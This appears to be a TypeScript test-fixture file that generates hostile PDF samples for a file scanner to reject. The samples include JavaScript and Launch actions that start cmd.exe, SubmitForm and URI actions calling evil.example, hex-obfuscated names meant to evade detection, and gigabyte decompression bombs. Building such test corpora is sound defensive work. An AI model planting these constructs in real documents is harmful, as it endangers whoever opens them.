import { deflateSync } from 'node:zlib';
import { buildPdf, group, packed, type PdfObject } from './build-pdf.ts';
import { type HostileFile, rejected } from './hostile-file.ts';
import { packZerosZlib } from './pack-zeros.ts';

const script = '/S /JavaScript /JS (app.alert\\(1\\))';
const withObject = (...objects: PdfObject[]): Buffer => buildPdf({ objects });
const inCatalogue = (catalogue: string): Buffer => buildPdf({ catalogue });
const deep = (text: string, times: number): Buffer => {
  let body = Buffer.from(text, 'latin1');
  for (let time = 0; time < times; time++) body = deflateSync(body);
  return body;
};
const filters = (count: number): string => `/Filter [${'/FlateDecode '.repeat(count)}]`;
const groupOf = (dictionary: string, body: Buffer): PdfObject => ({ dictionary: `/Type /ObjStm /N 1 /First 4 ${dictionary}`, body });
const act = `9 0 << ${script} >>`;

/** PDFs that act, carry or fetch. */
export const activePdfs: readonly HostileFile[] = [
  rejected('script on opening', 'pdf', () => inCatalogue(`/OpenAction << ${script} >>`), 'active-content'),
  rejected('script in the tree of names', 'pdf', () => inCatalogue('/Names << /JavaScript 5 0 R >>'), 'active-content'),
  rejected('script in an object', 'pdf', () => withObject(`<< ${script} >>`), 'active-content'),
  rejected('script with its name in numbers', 'pdf', () => withObject('<< /S /J#61vaScr#69pt /#4A#53 (x) >>'), 'active-content'),
  rejected('script wholly in numbers', 'pdf', () => withObject('<< /S /#4A#61#76#61#53#63#72#69#70#74 >>'), 'active-content'),
  rejected('script in a packed group', 'pdf', () => withObject(group(`<< ${script} >>`)), 'active-content'),
  rejected('script in numbers in a packed group', 'pdf', () => withObject(group('<< /S /Java#53cript /J#53 (x) >>')), 'active-content'),
  rejected('script in a group without its type', 'pdf', () => withObject(group(`<< ${script} >>`, '/N 1 /First 4')), 'active-content'),
  rejected(
    'script in a group whose type is in numbers',
    'pdf',
    () => withObject(group(`<< ${script} >>`, '/Type /Obj#53tm /N 1 /First 4')),
    'active-content',
  ),
  rejected('script in a group packed twice', 'pdf', () => withObject(groupOf(filters(2), deep(act, 2))), 'active-content'),
  rejected(
    'script in a group in letters',
    'pdf',
    () => withObject(groupOf('/Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from(deep(act, 1).toString('hex')))),
    'active-content',
  ),
  rejected(
    'script in a group with a predictor',
    'pdf',
    () => withObject(groupOf('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >>', deep(act, 1))),
    'active-content',
  ),
  rejected(
    'script in a group whose filter stands elsewhere',
    'pdf',
    () => withObject(groupOf('/Filter 7 0 R', deep(act, 1)), '/FlateDecode'),
    'active-content',
  ),
  rejected('script in a group that is not packed', 'pdf', () => withObject(groupOf('', Buffer.from(act))), 'active-content'),
  rejected(
    'script between false streams',
    'pdf',
    () => withObject(`<< /T (<< >>\nstream\n) ${script} /U (endstream) >>`),
    'active-content',
    'damaged',
  ),
  rejected(
    'group within the bytes of a picture',
    'pdf',
    () => withObject({ dictionary: '/Subtype /Image /Filter /DCTDecode', body: Buffer.from('8 0 obj << /Type /ObjStm >> ') }),
    'active-content',
  ),
  rejected(
    'group behind a comment that looks like an object',
    'pdf',
    () => withObject({ dictionary: '/Type /ObjStm /N 1 /First 4 % 1 0 obj <<\n', body: deep(act, 1) }),
    'damaged',
  ),
  rejected(
    'group behind a string that looks like an object',
    'pdf',
    () => withObject({ dictionary: '/Type /ObjStm /N 1 /First 4 /X (1 0 obj << )', body: deep(act, 1) }),
    'damaged',
  ),
  rejected('program to be started', 'pdf', () => inCatalogue('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'active-content'),
  rejected(
    'program to be started on a page',
    'pdf',
    () => withObject('<< /AA << /O << /S /Launch /Win << /F (calc) >> >> >> >>'),
    'active-content',
  ),
  rejected('address called on opening', 'pdf', () => inCatalogue('/OpenAction << /S /URI /URI (http://evil.example) >>'), 'active-content'),
  rejected('form that sends', 'pdf', () => withObject('<< /S /SubmitForm /F (http://evil.example) >>'), 'active-content'),
  rejected('form that reads', 'pdf', () => withObject('<< /S /ImportData /F (data.fdf) >>'), 'active-content'),
  rejected('form of another language', 'pdf', () => inCatalogue('/AcroForm << /XFA 5 0 R >>'), 'active-content'),
  rejected('film with controls', 'pdf', () => withObject('<< /Type /Annot /Subtype /RichMedia >>'), 'active-content'),
  rejected('rendition with a script', 'pdf', () => withObject('<< /S /Rendition /OP 0 >>'), 'active-content'),
  rejected(
    'embedded file',
    'pdf',
    () => withObject('<< /Type /Filespec /EF << /F 6 0 R >> >>', packed('/Type /EmbeddedFile', 'MZ')),
    'embedded-file',
  ),
  rejected('embedded files by name', 'pdf', () => inCatalogue('/Names << /EmbeddedFiles 5 0 R >>'), 'embedded-file'),
  rejected('file pinned to a page', 'pdf', () => withObject('<< /Subtype /FileAttachment >>'), 'embedded-file'),
  rejected('jump into another file', 'pdf', () => withObject(String.raw`<< /S /GoToR /F (\\\\evil.example\\a) >>`), 'external-reference'),
  rejected('jump into an embedded file', 'pdf', () => withObject('<< /S /GoToE >>'), 'embedded-file'),
  rejected('password', 'pdf', () => buildPdf({ trailer: '/Encrypt 5 0 R' }), 'encrypted'),
  rejected('password, name in numbers', 'pdf', () => buildPdf({ trailer: '/Encr#79pt 5 0 R' }), 'encrypted'),
];

/** PDFs that unpack to too much, break off, or are not one. */
export const brokenPdfs: readonly HostileFile[] = [
  rejected('group of a gigabyte', 'pdf', () => withObject(groupOf('/Filter /FlateDecode', packZerosZlib(1024))), 'decompression-bomb'),
  rejected(
    'picture of a gigabyte',
    'pdf',
    () => withObject({ dictionary: '/Subtype /Image /Filter /FlateDecode', body: packZerosZlib(1024) }),
    'decompression-bomb',
  ),
  rejected(
    'many streams of 100 MB',
    'pdf',
    () => withObject(...Array.from({ length: 4 }, () => ({ dictionary: '/Filter /FlateDecode', body: packZerosZlib(100) }))),
    'decompression-bomb',
  ),
  rejected('page packed ten times', 'pdf', () => withObject({ dictionary: filters(10), body: deep('x', 10) }), 'decompression-bomb'),
  rejected('page packed three times', 'pdf', () => withObject({ dictionary: filters(3), body: deep('x', 3) }), 'decompression-bomb'),
  rejected('group that cannot be unpacked', 'pdf', () => withObject(groupOf('/Filter /FlateDecode', Buffer.from('garbage'))), 'damaged'),
  rejected('PDF cut in half', 'pdf', () => buildPdf().subarray(0, 300), 'truncated'),
  rejected('PDF without a table', 'pdf', () => Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\n%%EOF'), 'damaged'),
  rejected('PDF of its head alone', 'pdf', () => Buffer.from('%PDF-1.7\n'), 'truncated'),
  rejected(
    'stream without end',
    'pdf',
    () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Length 9 >>\nstream\nabc\nstartxref\n0\n%%EOF'),
    'truncated',
  ),
  rejected('stream outside any object', 'pdf', () => Buffer.from('%PDF-1.7\nstream\nabc\nendstream\nstartxref\n0\n%%EOF'), 'damaged'),
  rejected('bytes before the head', 'pdf', () => buildPdf({ head: 'From: someone\n\n' }), 'type-not-allowed', 'type-differs'),
  rejected('page around a PDF', 'pdf', () => buildPdf({ head: '<html><script>x</script>' }), 'type-not-allowed', 'type-differs'),
  rejected('script behind a PDF', 'pdf', () => buildPdf({ after: '<script>alert(1)</script>\n' }), 'polyglot'),
  rejected('second PDF behind a PDF', 'pdf', () => buildPdf({ after: buildPdf() }), 'polyglot'),
];
